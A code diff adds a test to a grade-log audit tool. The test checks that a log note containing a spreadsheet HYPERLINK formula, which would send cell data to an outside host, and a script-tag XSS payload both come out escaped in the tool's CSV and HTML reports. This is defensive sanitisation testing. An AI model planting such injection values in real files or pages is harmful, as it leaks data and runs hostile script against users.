@@ -178,3 +178,19 @@ def test_example_files_are_the_documented_ones(tmp_path):
                 "no_reason", "opening_grade", "closing_grade", "time_format", "grades"):
         assert key in text, key
     shutil.copytree(EXAMPLE, tmp_path / "copy")
+
+
+def test_free_text_from_the_log_is_shown_as_text(tmp_path, capsys):
+    # a note that would be a formula in a spreadsheet or markup on the page stays text in both
+    evil = '=HYPERLINK("http://x/"&A1) <script>alert(1)</script>'
+    text = (EXAMPLE / "grade_log.csv").read_text().replace("A7,2024-01-01 09:00:00,1,2,ZZZ,",
+                                                           f'A7,2024-01-01 09:00:00,1,2,,"{evil.replace(chr(34), 2 * chr(34))}"')
+    (tmp_path / "log.csv").write_text(text)
+    rc, err, out = _audit(tmp_path, capsys, log=tmp_path / "log.csv")
+    assert rc == 0, err
+    raw = (out / "downgrades_observed.csv").read_text()
+    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw
+    html = (out / "audit.html").read_text()
+    assert "<script>alert" not in html and "&lt;script&gt;" in html
+    q = _quality(out)   # free text without a keyword: unclassified, listed
+    assert q[("downgrades decided by", "text without keywords")] == 1
